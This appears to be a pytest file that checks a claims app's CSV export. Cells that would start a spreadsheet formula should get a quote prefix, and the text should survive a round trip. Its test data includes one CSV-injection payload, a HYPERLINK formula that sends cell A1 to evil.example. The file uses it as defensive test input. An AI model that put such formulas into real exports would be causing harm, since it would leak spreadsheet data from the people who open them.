"""CSV that no spreadsheet runs as a formula, and that imports back to the same text."""

from __future__ import annotations

import csv
import io

import factories
import pytest
from exchange_helpers import CSV, empty_claims, import_claims, researcher

# Cells a spreadsheet would run (OWASP's CSV injection list), and texts that only look close.
DANGEROUS = [
    '=HYPERLINK("https://evil.example/?leak="&A1, "Click")',
    "+1 555 0100 is the number to call",
    "-2 degrees tonight, the ministry says",
    "@SUM(1+1) of the budget",
    "\tTabbed in, then the claim",
    "\rA carriage return first",
    "'=already quoted by someone",
    "''+twice quoted",
]
HARMLESS = ["'Tis the season of promises", "A minus-sign later: -5", "Plain words."]


def csv_rows(client) -> list[dict[str, str]]:
    response = client.get("/api/v1/export/claims", query_string={"format": "csv"})
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_cell_that_would_start_a_formula_is_prefixed_with_a_quote(client, text):
    factories.claim(client, text=text, claimant=text, tags=["ok"])

    (row,) = csv_rows(client)

    assert row["text"] == row["claimant"] == "'" + text
    assert row["tags"] == "ok"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_cells_are_written_as_they_are(client, text):
    factories.claim(client, text=text)

    assert csv_rows(client)[0]["text"] == text


def test_a_csv_round_trip_gives_back_every_text(app, client):
    for text in DANGEROUS + HARMLESS:
        factories.claim(client, text=text, claimant=text, tags=["-minus", "=sign"])
    exported = client.get("/api/v1/export/claims", query_string={"format": "csv"}).get_data()
    empty_claims(app)

    report = import_claims(researcher(app), exported, CSV)
    stored = client.get("/api/v1/claims", query_string={"limit": 100}).get_json()["items"]

    assert report.status_code == 200, report.get_json()
    assert sorted(c["text"] for c in stored) == sorted(DANGEROUS + HARMLESS)
    assert all(c["claimant"] == c["text"] for c in stored)
    assert all(c["tags"] == ["-minus", "=sign"] for c in stored)
